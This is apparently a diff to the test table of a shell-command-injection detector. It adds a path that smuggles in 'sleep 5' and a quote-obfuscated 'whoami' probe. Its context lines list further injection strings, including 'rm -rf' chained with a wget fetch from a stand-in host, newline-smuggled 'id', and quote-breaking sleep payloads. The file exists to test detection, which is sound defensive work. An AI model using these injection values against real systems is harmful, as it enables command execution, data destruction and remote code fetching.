@@ -10,6 +10,8 @@ describeDetector('detectShell', detectShell, {
     ['rm -rf /tmp/x; wget http://a.example/m -O- >/tmp/y', 'argument'],
     ['cls_mode_login\nwhoami\n', 'argument'],
     ['127.0.0.1\nid', 'argument'],
+    ['/item/5;sleep 5/edit', 'argument'],
+    ['1&&w"h"o"a"m"i', 'probe'],
     ['x && wget http://a.example/', 'argument'],
     ['& ping -c 3 127.0.0.1 &', 'argument'],
     ["'; sleep 5 ;'", 'single-quoted'],
